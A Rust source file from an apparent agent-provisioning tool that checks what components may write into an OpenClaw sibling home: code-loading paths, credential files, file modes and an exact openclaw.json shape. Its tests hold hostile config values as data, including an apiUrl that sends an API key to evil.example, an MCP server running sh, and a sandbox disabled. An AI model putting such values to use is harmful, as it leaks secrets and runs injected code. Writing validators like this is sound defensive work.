//! What a component may write into a sibling home. OpenClaw runs code from some places
//! of its state directory and runs commands named in its config; the host, not the
//! component, decides those:
//! - no component write (file, directory, or copy entry) under a [`CODE_PATHS`] entry:
//!   the host copies the lead's allowlisted plugins and skills itself;
//! - `openclaw.json` must have exactly the shape the provisioner writes ([`check_write`]):
//!   no key that loads code or runs a command, plugin entries only for the plugins the
//!   host copied, the API URL and workspace pinned, no `${…}` substitution, no `$include`;
//! - credential files (`.env`, `agents/*/agent/auth*.json`) are written by the host only
//!   ([`CREDENTIAL_FILES`], `fs.write-credentials`), never by the component;
//! - modes: no group/other write, no setuid/setgid/sticky ([`check_mode`]).

use serde_json::Value;
use std::path::{Component, Path, PathBuf};

/// Places in a sibling home (relative paths, `*` for any one name) from which OpenClaw
/// 2026.9 loads code or commands: plugins (`extensions`, managed installs in `npm` and
/// `git`), skills, hooks, shell snapshots sourced before exec (`cache`), the service
/// wrappers' environments (`service-env`, `gateway.systemd.env`), downloaded helpers and
/// runtimes (`tools`, `node-runtime`), the database holding cron jobs and exec approvals
/// (`state`) and its legacy sources, and the workspace's own plugins, hooks and skills.
pub const CODE_PATHS: &[&str] = &[
    "extensions",
    "npm",
    "git",
    "plugins",
    "node_modules",
    "skills",
    "plugin-skills",
    "hooks",
    "cache",
    "service-env",
    "gateway.systemd.env",
    "tools",
    "node-runtime",
    "state",
    "cron",
    "exec-approvals.json",
    "agents/*/workshop-skills",
    "workspace/.openclaw",
    "workspace/.agents",
    "workspace/skills",
    "workspace/hooks",
];

/// Credential files in a sibling home (`*` for any one name), which only the host writes:
/// `.env` is loaded into the gateway's environment unfiltered (`NODE_OPTIONS` there runs
/// code), and the auth files hold keys.
pub const CREDENTIAL_FILES: &[&str] = &[".env", "agents/*/agent/auth.json", "agents/*/agent/auth-profiles.json"];

/// The mode bits the component may give what it creates.
pub const ALLOWED_MODE: u32 = 0o755;

/// Why a component may not write something into a sibling home.
#[derive(Debug, thiserror::Error)]
pub enum Refused {
    #[error("mode {mode:04o} has bits {extra:04o} (group/other write, setuid, setgid or sticky); at most {ALLOWED_MODE:04o} is allowed")]
    Mode { mode: u32, extra: u32 },
    #[error("{}: OpenClaw loads code from {code}/ in a sibling home; only the host copies plugins and skills there", path.display())]
    Code { path: PathBuf, code: &'static str },
    #[error("{}: written only by write-atomic, where its contents are checked", .0.display())]
    ConfigNotByWrite(PathBuf),
    #[error("{}: credential files ({file}) are written by the host (fs.write-credentials), never by the component", path.display())]
    Credential { path: PathBuf, file: &'static str },
    #[error("openclaw.json is not JSON ({0})")]
    ConfigNotJson(serde_json::Error),
    /// `openclaw.json` is not the shape the provisioner writes ([`check_write`]).
    #[error("openclaw.json: {0}")]
    Config(String),
}

/// What the checks need to know about this run.
pub struct SiblingRules<'a> {
    /// The sibling's home (its workspace must be `<home>/workspace`).
    pub home: &'a Path,
    /// The Sesame API base URL the host talks to.
    pub api_url: &'a str,
    /// Names of the plugins the host copies into `extensions/`.
    pub plugins: &'a [String],
}

/// The pattern of `patterns` that `relative` is, or lies under.
fn matching(patterns: &[&'static str], relative: &Path) -> Option<&'static str> {
    patterns.iter().copied().find(|pattern| {
        let mut inner = relative.components().filter(|c| matches!(c, Component::Normal(_)));
        pattern.split('/').all(|part| inner.next().is_some_and(|c| part == "*" || c.as_os_str() == part))
    })
}

/// The code path `relative` falls under, if any.
pub fn code_path(relative: &Path) -> Option<&'static str> {
    matching(CODE_PATHS, relative)
}

/// Refuses a mode with bits outside [`ALLOWED_MODE`].
pub fn check_mode(mode: u32) -> Result<(), Refused> {
    match mode & !ALLOWED_MODE {
        0 => Ok(()),
        extra => Err(Refused::Mode { mode, extra }),
    }
}

/// Refuses `relative` when OpenClaw loads code from there.
fn check_code(relative: &Path) -> Result<(), Refused> {
    match code_path(relative) {
        Some(code) => Err(Refused::Code { path: relative.to_path_buf(), code }),
        None => Ok(()),
    }
}

/// Refuses creating `relative` (a directory or a copied entry) when OpenClaw loads code
/// from there, or when it is one of the checked files (which only `write-atomic` writes).
pub fn check_entry(relative: &Path) -> Result<(), Refused> {
    check_code(relative)?;
    if relative == Path::new("openclaw.json") {
        return Err(Refused::ConfigNotByWrite(relative.to_path_buf()));
    }
    check_credential(relative)
}

/// Refuses `relative` when it is a credential file, which only the host writes.
fn check_credential(relative: &Path) -> Result<(), Refused> {
    match matching(CREDENTIAL_FILES, relative) {
        Some(file) => Err(Refused::Credential { path: relative.to_path_buf(), file }),
        None => Ok(()),
    }
}

/// Checks a whole-file write of `contents` to `relative` in a sibling home.
pub fn check_write(relative: &Path, contents: &[u8], rules: &SiblingRules) -> Result<(), Refused> {
    check_code(relative)?;
    if relative == Path::new("openclaw.json") {
        let config: Value = serde_json::from_slice(contents).map_err(Refused::ConfigNotJson)?;
        return check_config(&config, rules).map_err(Refused::Config);
    }
    check_credential(relative)
}

/// The exact shape of the sibling's `openclaw.json`: a local gateway on loopback with a
/// token, the workspace, an optional model, the Sesame channel, and plugin entries for
/// what the host copied. Every other key is refused, and so is any `${…}` in a string.
fn check_config(config: &Value, rules: &SiblingRules) -> Result<(), String> {
    keys(config, "", &["gateway", "agents"], &["channels", "plugins"])?;
    let gateway = &config["gateway"];
    keys(gateway, "gateway", &["mode", "port", "bind", "auth"], &[])?;
    equal(&gateway["mode"], "gateway.mode", "local")?;
    equal(&gateway["bind"], "gateway.bind", "loopback")?;
    gateway["port"].as_u64().filter(|p| (1024..=65535).contains(p)).ok_or("gateway.port must be a port in 1024..65535")?;
    keys(&gateway["auth"], "gateway.auth", &["mode", "token"], &[])?;
    equal(&gateway["auth"]["mode"], "gateway.auth.mode", "token")?;
    plain(&gateway["auth"]["token"], "gateway.auth.token")?;
    keys(&config["agents"], "agents", &["defaults"], &[])?;
    let defaults = &config["agents"]["defaults"];
    keys(defaults, "agents.defaults", &["workspace"], &["model"])?;
    equal(&defaults["workspace"], "agents.defaults.workspace", &rules.home.join("workspace").display().to_string())?;
    if !defaults["model"].is_null() {
        keys(&defaults["model"], "agents.defaults.model", &["primary"], &[])?;
        plain(&defaults["model"]["primary"], "agents.defaults.model.primary")?;
    }
    if !config["channels"].is_null() {
        if !rules.plugins.iter().any(|p| p == "sesame") {
            return Err("channels.sesame needs the Sesame plugin, which the host does not copy".into());
        }
        keys(&config["channels"], "channels", &["sesame"], &[])?;
        let sesame = &config["channels"]["sesame"];
        keys(sesame, "channels.sesame", &["enabled", "apiKey", "apiUrl"], &[])?;
        sesame["enabled"].as_bool().ok_or("channels.sesame.enabled must be true or false")?;
        plain(&sesame["apiKey"], "channels.sesame.apiKey")?;
        equal(&sesame["apiUrl"], "channels.sesame.apiUrl", rules.api_url)?;
    }
    if !config["plugins"].is_null() {
        keys(&config["plugins"], "plugins", &["entries"], &[])?;
        let entries = config["plugins"]["entries"].as_object().ok_or("plugins.entries must be an object")?;
        for (name, entry) in entries {
            if !rules.plugins.contains(name) {
                return Err(format!("plugins.entries.{name}: the host copies no plugin {name:?} (it copies: {})", rules.plugins.join(", ")));
            }
            keys(entry, &format!("plugins.entries.{name}"), &["enabled"], &[])?;
            entry["enabled"].as_bool().ok_or_else(|| format!("plugins.entries.{name}.enabled must be true or false"))?;
        }
    }
    Ok(())
}

/// `value` is an object with every key of `required`, and no key outside `required` and `optional`.
fn keys(value: &Value, at: &str, required: &[&str], optional: &[&str]) -> Result<(), String> {
    let shown = |key: &str| if at.is_empty() { key.to_string() } else { format!("{at}.{key}") };
    let map = value.as_object().ok_or_else(|| format!("{} must be an object", if at.is_empty() { "the config" } else { at }))?;
    if let Some(key) = map.keys().find(|k| !required.contains(&k.as_str()) && !optional.contains(&k.as_str())) {
        return Err(format!("{} is not a key the provisioner writes (allowed here: {})", shown(key), [required, optional].concat().join(", ")));
    }
    match required.iter().find(|k| !map.contains_key(**k)) {
        Some(key) => Err(format!("{} is required", shown(key))),
        None => Ok(()),
    }
}

fn equal(value: &Value, at: &str, expected: &str) -> Result<(), String> {
    match value.as_str() {
        Some(text) if text == expected => Ok(()),
        _ => Err(format!("{at} must be {expected:?}")),
    }
}

/// A non-empty string with no control character and no `${` (OpenClaw substitutes those).
fn plain(value: &Value, at: &str) -> Result<(), String> {
    match value.as_str() {
        Some(text) if !text.is_empty() && !text.chars().any(char::is_control) && !text.contains("${") => Ok(()),
        _ => Err(format!("{at} must be plain text (no control characters, no `${{…}}`)")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rules() -> SiblingRules<'static> {
        static PLUGINS: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
        SiblingRules { home: Path::new("/h/.openclaw-nova"), api_url: "https://api.sesame.space", plugins: PLUGINS.get_or_init(|| vec!["sesame".into()]) }
    }

    fn config() -> Value {
        json!({
            "gateway": { "mode": "local", "port": 18790, "bind": "loopback", "auth": { "mode": "token", "token": "abc" } },
            "agents": { "defaults": { "workspace": "/h/.openclaw-nova/workspace", "model": { "primary": "anthropic/claude" } } },
            "channels": { "sesame": { "enabled": true, "apiKey": "sk_1", "apiUrl": "https://api.sesame.space" } },
            "plugins": { "entries": { "sesame": { "enabled": true } } },
        })
    }

    #[test]
    fn the_provisioners_own_config_passes() {
        assert_eq!(check_config(&config(), &rules()), Ok(()));
    }

    #[test]
    fn keys_that_run_code_or_leave_the_shape_are_refused() {
        type Change = fn(&mut Value);
        let cases: [(Change, &str); 10] = [
            (|c| c["plugins"]["load"] = json!({ "paths": ["/tmp/evil"] }), "plugins.load"),
            (|c| c["plugins"]["entries"]["evil"] = json!({ "enabled": true }), "no plugin \"evil\""),
            (|c| c["hooks"] = json!({ "internal": { "enabled": true } }), "hooks is not a key"),
            (|c| c["mcp"] = json!({ "servers": { "x": { "command": "sh" } } }), "mcp is not a key"),
            (|c| c["$include"] = json!("/etc/evil.json5"), "$include"),
            (|c| c["gateway"]["bind"] = json!("lan"), "gateway.bind"),
            (|c| c["channels"]["sesame"]["apiUrl"] = json!("https://evil.example/${ANTHROPIC_API_KEY}"), "apiUrl"),
            (|c| c["agents"]["defaults"]["model"]["primary"] = json!("${OPENAI_API_KEY}"), "plain text"),
            (|c| c["agents"]["defaults"]["workspace"] = json!("/h/.openclaw"), "workspace"),
            (|c| c["agents"]["defaults"]["sandbox"] = json!({ "mode": "off" }), "agents.defaults.sandbox"),
        ];
        for (change, needle) in cases {
            let mut c = config();
            change(&mut c);
            let err = check_config(&c, &rules()).unwrap_err().to_string();
            assert!(err.contains(needle), "{err} should mention {needle}");
        }
    }

    #[test]
    fn code_paths_and_modes() {
        for path in [
            "extensions/evil/index.js",
            "skills/x/SKILL.md",
            "hooks",
            "workspace/skills/a",
            "node_modules/x",
            "cache/shell-snapshots/x.sh",
            "service-env/x.env",
            "agents/main/workshop-skills/x",
            "workspace/.openclaw/extensions/x",
            "state/openclaw.sqlite",
        ] {
            assert!(check_entry(Path::new(path)).is_err(), "{path}");
            assert!(check_write(Path::new(path), b"", &rules()).is_err(), "{path}");
        }
        for path in ["workspace/AGENTS.md", "workspace/memory", "agents/main/agent", "extensions-notes.md"] {
            assert!(check_entry(Path::new(path)).is_ok(), "{path}");
        }
        assert!(check_entry(Path::new("openclaw.json")).is_err(), "copies cannot bypass the config check");
        assert!(check_mode(0o700).is_ok());
        assert!(check_mode(0o644).is_ok());
        for bad in [0o4777, 0o2755, 0o1755, 0o775, 0o646] {
            assert!(check_mode(bad).is_err(), "{bad:o}");
        }
    }

    #[test]
    fn credential_files_are_the_hosts() {
        for path in [".env", "agents/main/agent/auth.json", "agents/other/agent/auth-profiles.json"] {
            let err = check_write(Path::new(path), b"NODE_OPTIONS=x", &rules()).unwrap_err().to_string();
            assert!(err.contains("written by the host"), "{path}: {err}");
            assert!(check_entry(Path::new(path)).is_err(), "{path}");
        }
        assert!(check_write(Path::new("agents/main/agent/notes.md"), b"x", &rules()).is_ok());
    }
}
